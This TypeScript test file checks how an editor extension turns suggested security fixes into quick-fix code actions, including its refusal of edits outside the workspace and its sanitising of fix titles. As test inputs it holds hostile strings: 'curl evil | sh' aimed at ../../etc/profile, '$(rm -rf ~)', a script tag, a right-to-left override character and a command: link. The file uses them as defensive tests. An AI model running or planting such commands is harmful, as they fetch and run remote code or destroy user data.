import * as assert from 'node:assert/strict';
import type { TextDocumentEdit, WorkspaceEdit } from 'vscode-languageserver';
import { Commands, SUGGESTED_FIX_KIND } from '../../../../src/shared/commands';
import type { Finding, SuggestedFix } from '../../../../src/shared/feed';
import { fixEditorOf } from '../../../../src/server/lsp/initialize';
import {
  FIX_REASONS,
  offersSuggestedFixes,
  suggestedFixActions,
  type FixEditor,
  type FixFiles,
} from '../../../../src/server/views/codeActions';
import type { DrawnFinding } from '../../../../src/server/views/fileView';
import type { Placement } from '../../../../src/server/views/placement';
import { makeFinding } from '../makeFinding';

const ROOT = 'file:///home/dev/app';
const MAIN = ['function run(input) {', '  return eval(input);', '}'].join('\n');
const HELPER = ['export const limits = {};', ''].join('\n');
const VSCODE: FixEditor = { confirmsEdits: true, disabledActions: true };

const evalFix: SuggestedFix = {
  description: 'Parse JSON instead of evaluating it',
  files: [
    {
      path: 'src/run.js',
      replacements: [{ deletedRegion: { startLine: 2, startColumn: 10, endColumn: 21 }, insertedText: 'JSON.parse(input)' }],
    },
  ],
};

function finding(overrides: Partial<Finding> = {}): Finding {
  return makeFinding({
    id: 'F-1',
    location: { path: 'src/run.js', startLine: 2, startColumn: 10, endColumn: 21, snippet: '  return eval(input);' },
    fixes: [evalFix],
    ...overrides,
  });
}

function drawn(f: Finding, placement?: Placement): DrawnFinding {
  const line = f.location.startLine - 1;
  const place: Placement = placement ?? { range: { start: { line, character: 9 }, end: { line, character: 20 } }, state: 'exact' };
  return {
    stored: { finding: f, resolution: { ok: true, uri: `${ROOT}/${f.location.path}` }, message: { at: 0, length: 0 }, links: undefined },
    finding: f,
    placement: place,
    reReview: false,
    hidden: false,
  };
}

/** A workspace of two files at `/home/dev/app`; paths that climb out are refused like the server's resolver does. */
function files(
  texts: Record<string, string> = { 'src/run.js': MAIN, 'src/limits.js': HELPER },
  atCommit: Record<string, string> = {},
): FixFiles & { read: string[] } {
  const read: string[] = [];
  return {
    read,
    resolve: (path) =>
      path.includes('..') || path.startsWith('/')
        ? { ok: false, reason: 'it leaves the workspace folder' }
        : { ok: true, uri: `${ROOT}/${path}` },
    current: async (uri) => {
      read.push(uri);
      const text = texts[uri.slice(ROOT.length + 1)];
      return text === undefined ? undefined : { text, version: uri.endsWith('run.js') ? 7 : null };
    },
    atCommit: async (_commit, path) => atCommit[path],
  };
}

const everywhere = { start: { line: 0, character: 0 }, end: { line: 99, character: 0 } };

function editedText(text: string, edit: WorkspaceEdit, uri: string): string {
  const change = (edit.documentChanges as TextDocumentEdit[]).find((c) => c.textDocument.uri === uri)!;
  const lines = text.split('\n');
  const offset = (p: { line: number; character: number }) => lines.slice(0, p.line).reduce((n, l) => n + l.length + 1, 0) + p.character;
  const edits = [...change.edits].sort((a, b) => offset(b.range.start) - offset(a.range.start));
  return edits.reduce((t, e) => t.slice(0, offset(e.range.start)) + e.newText + t.slice(offset(e.range.end)), text);
}

describe('suggested fixes as code actions', () => {
  it('offers a previewed Quick Fix whose edit does what the fix says, preferred when it is the only one', async () => {
    const diagnostic = { range: everywhere, message: 'x', data: { findingId: 'F-1' } };
    const [action, ...rest] = await suggestedFixActions([drawn(finding())], everywhere, [diagnostic], files(), VSCODE);
    assert.equal(rest.length, 0);
    assert.equal(action!.title, 'Apply suggested fix: Parse JSON instead of evaluating it');
    assert.equal(action!.kind, SUGGESTED_FIX_KIND);
    assert.ok(action!.kind!.startsWith('quickfix.'));
    assert.equal(action!.isPreferred, true);
    assert.deepEqual(action!.diagnostics, [diagnostic]);
    assert.deepEqual(action!.command, { title: 'Acknowledge as will fix…', command: Commands.fixApplied, arguments: ['F-1'] });
    const edit = action!.edit!;
    const [change] = edit.documentChanges as TextDocumentEdit[];
    assert.deepEqual(change!.textDocument, { uri: `${ROOT}/src/run.js`, version: 7 });
    for (const e of change!.edits) assert.equal((e as { annotationId?: string }).annotationId, 'findingsLens.suggestedFix');
    assert.equal(edit.changeAnnotations!['findingsLens.suggestedFix']!.needsConfirmation, true);
    assert.equal(editedText(MAIN, edit, `${ROOT}/src/run.js`), MAIN.replace('eval(input)', 'JSON.parse(input)'));
  });

  it('edits every file of a multi-file fix, each checked against the commit', async () => {
    const twoFiles: SuggestedFix = {
      description: 'Limit and parse',
      files: [
        evalFix.files[0]!,
        {
          path: 'src/limits.js',
          replacements: [{ deletedRegion: { startLine: 1, startColumn: 23, endColumn: 25 }, insertedText: '{ maxInput: 4096 }' }],
        },
      ],
    };
    const f = finding({ fixes: [twoFiles], commit: 'abc' });
    const [action] = await suggestedFixActions([drawn(f)], everywhere, [], files(undefined, { 'src/limits.js': HELPER }), VSCODE);
    assert.equal(action!.disabled, undefined);
    assert.equal(editedText(HELPER, action!.edit!, `${ROOT}/src/limits.js`), 'export const limits = { maxInput: 4096 };\n');
    assert.equal((action!.edit!.documentChanges as TextDocumentEdit[]).length, 2);

    // Without the file at the commit, the other file's lines cannot be checked: not guessed at.
    const [unknown] = await suggestedFixActions([drawn(f)], everywhere, [], files(), VSCODE);
    assert.equal(unknown!.edit, undefined);
    assert.equal(unknown!.disabled?.reason, `${FIX_REASONS.unknown} (in src/limits.js)`);
  });

  it('never edits a file outside the workspace folder, and does not even read it', async () => {
    const escaping: SuggestedFix = {
      description: 'Also patch the system',
      files: [
        evalFix.files[0]!,
        { path: '../../etc/profile', replacements: [{ deletedRegion: { startLine: 1 }, insertedText: 'curl evil | sh' }] },
      ],
    };
    const fs = files();
    const [action] = await suggestedFixActions([drawn(finding({ fixes: [escaping] }))], everywhere, [], fs, VSCODE);
    assert.equal(action!.edit, undefined);
    assert.match(action!.disabled!.reason, /^it edits \.\.\/\.\.\/etc\/profile, which is not inside the workspace folder/);
    assert.ok(
      fs.read.every((uri) => uri.startsWith(`${ROOT}/`)),
      fs.read.join(),
    );
  });

  it('moves the fix with the finding, and disables it with the reason when the code changed', async () => {
    const moved = `// new first line\n${MAIN}`;
    const f = finding();
    const placement: Placement = { range: { start: { line: 2, character: 9 }, end: { line: 2, character: 20 } }, state: 'moved' };
    const [action] = await suggestedFixActions([drawn(f, placement)], everywhere, [], files({ 'src/run.js': moved }), VSCODE);
    assert.equal(editedText(moved, action!.edit!, `${ROOT}/src/run.js`), moved.replace('eval(input)', 'JSON.parse(input)'));

    const changed = MAIN.replace('eval(input)', 'evaluate(input)');
    const [stale] = await suggestedFixActions([drawn(f)], everywhere, [], files({ 'src/run.js': changed }), VSCODE);
    assert.deepEqual(stale!.disabled, { reason: 'the code changed since the finding; the suggested fix no longer applies' });
    assert.equal(stale!.edit, undefined);
    assert.equal(stale!.isPreferred, undefined);
    assert.equal(stale!.command, undefined);
  });

  it('disables a fix the editor cannot preview, and leaves disabled ones out where the editor cannot show them', async () => {
    const [noPreview] = await suggestedFixActions([drawn(finding())], everywhere, [], files(), {
      confirmsEdits: false,
      disabledActions: true,
    });
    assert.deepEqual(noPreview!.disabled, { reason: FIX_REASONS.editor });
    assert.equal(noPreview!.edit, undefined);
    assert.deepEqual(
      await suggestedFixActions([drawn(finding())], everywhere, [], files(), { confirmsEdits: false, disabledActions: false }),
      [],
    );
  });

  it('offers only the fixes of findings the range touches, and no acknowledgement for a resolved finding', async () => {
    const f = finding();
    const elsewhere = { start: { line: 0, character: 0 }, end: { line: 0, character: 5 } };
    assert.deepEqual(await suggestedFixActions([drawn(f)], elsewhere, [], files(), VSCODE), []);
    const [action] = await suggestedFixActions([drawn(finding({ status: 'acknowledged' }))], everywhere, [], files(), VSCODE);
    assert.ok(action!.edit);
    assert.equal(action!.command, undefined);
    const lost = drawn(f, { range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, state: 'lost' });
    assert.deepEqual((await suggestedFixActions([lost], everywhere, [], files(), VSCODE))[0]!.disabled, { reason: FIX_REASONS.lost });
  });

  it("shows the feed's description as plain text: one line, hidden characters written out, capped", async () => {
    const verbatim = '$(rm -rf ~) <script>alert(1)</script> \u202E';
    const hostileFile = { ...evalFix.files[0]!, replacements: [{ ...evalFix.files[0]!.replacements[0]!, insertedText: verbatim }] };
    const hostile: SuggestedFix = {
      files: [hostileFile],
      description: `Fix\u202Eevil\n[run](command:workbench.action.terminal.new) ${'x'.repeat(500)}`,
    };
    const two = finding({ fixes: [hostile, evalFix] });
    const [first, second] = await suggestedFixActions([drawn(two)], everywhere, [], files(), VSCODE);
    assert.ok(
      first!.title.startsWith('Apply suggested fix: Fix<U+202E>evil [run](command:workbench.action.terminal.new) xxx'),
      first!.title,
    );
    assert.ok(!first!.title.includes('\u202E') && !first!.title.includes('\n'));
    assert.ok(first!.title.length <= 'Apply suggested fix: '.length + 101, String(first!.title.length));
    assert.equal(first!.isPreferred, undefined, 'two fixes: neither is preferred');
    assert.equal(second!.isPreferred, undefined);
    // The inserted text is the feed's, verbatim.
    const inserted = (first!.edit!.documentChanges as TextDocumentEdit[])[0]!.edits[0]!.newText;
    assert.equal(inserted, verbatim);
  });

  it('answers requests for Quick Fixes (or any kind), and not for refactorings; previews only where the editor takes change annotations', () => {
    assert.deepEqual(
      [undefined, ['quickfix'], [''], ['quickfix.findingsLens.suggestedFix'], ['refactor'], ['quickfix.other'], ['source']].map((only) =>
        offersSuggestedFixes(only),
      ),
      [true, true, true, true, false, false, false],
    );
    const vscode = {
      workspace: { workspaceEdit: { documentChanges: true, changeAnnotationSupport: {} } },
      textDocument: { codeAction: { disabledSupport: true } },
    };
    assert.deepEqual(fixEditorOf(vscode), { confirmsEdits: true, disabledActions: true });
    assert.deepEqual(fixEditorOf({ workspace: { workspaceEdit: { documentChanges: true } } }), {
      confirmsEdits: false,
      disabledActions: false,
    });
    assert.deepEqual(fixEditorOf({ workspace: { workspaceEdit: { changeAnnotationSupport: {} } } }).confirmsEdits, false);
  });
});
